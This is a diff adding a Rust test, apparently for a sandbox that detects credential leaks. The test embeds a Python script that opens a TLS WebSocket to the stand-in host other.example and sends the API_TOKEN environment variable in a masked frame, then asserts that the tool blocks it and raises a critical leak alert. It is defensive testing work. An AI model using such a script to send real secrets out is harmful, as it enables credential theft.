@@ -112,6 +112,39 @@ fn without_network_a_credential_is_not_there_at_all() {
     assert_eq!(ran.out(), "unset\n");
 }
 
+#[test]
+fn a_websocket_is_looked_at_too() {
+    requires!("python3", "ip");
+    let world = World::new();
+    let script = r#"
+import os, socket, ssl
+def say(text):
+    mask = b"\x07\x01\x09\x04"
+    masked = bytes(byte ^ mask[at % 4] for at, byte in enumerate(text))
+    return b"\x81" + bytes([0x80 | len(text)]) + mask + masked
+s = socket.create_connection(("other.example", 443), 10)
+s = ssl.create_default_context().wrap_socket(s, server_hostname="other.example")
+s.sendall(b"GET / HTTP/1.1\r\nHost: other.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+          b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head: head += s.recv(1)
+s.sendall(say(b"harmless"))
+print(len(s.recv(100)))
+s.sendall(say(os.environ["API_TOKEN"].encode()))
+try: print(s.recv(100))
+except OSError: print(b"")
+"#;
+    for tier in Tier::ALL {
+        let home = Home::new();
+        home.policy(POLICY);
+        let project = home.project_for(tier);
+        project.file("talk.py", script);
+        let run = world.run(&project, tier, &[], ["python3", "talk.py"]).env("API_TOKEN", REAL);
+        assert_eq!(run.run().ok().out(), "14\nb''\n", "{tier:?}");
+        assert_eq!(alerts(&home), [("leaks.placeholder".into(), "critical".into())]);
+    }
+}
+
 const SIGNER: &str = include_str!("../support/sigv4.py");
 
 const KEY: [(&str, &str); 3] = [
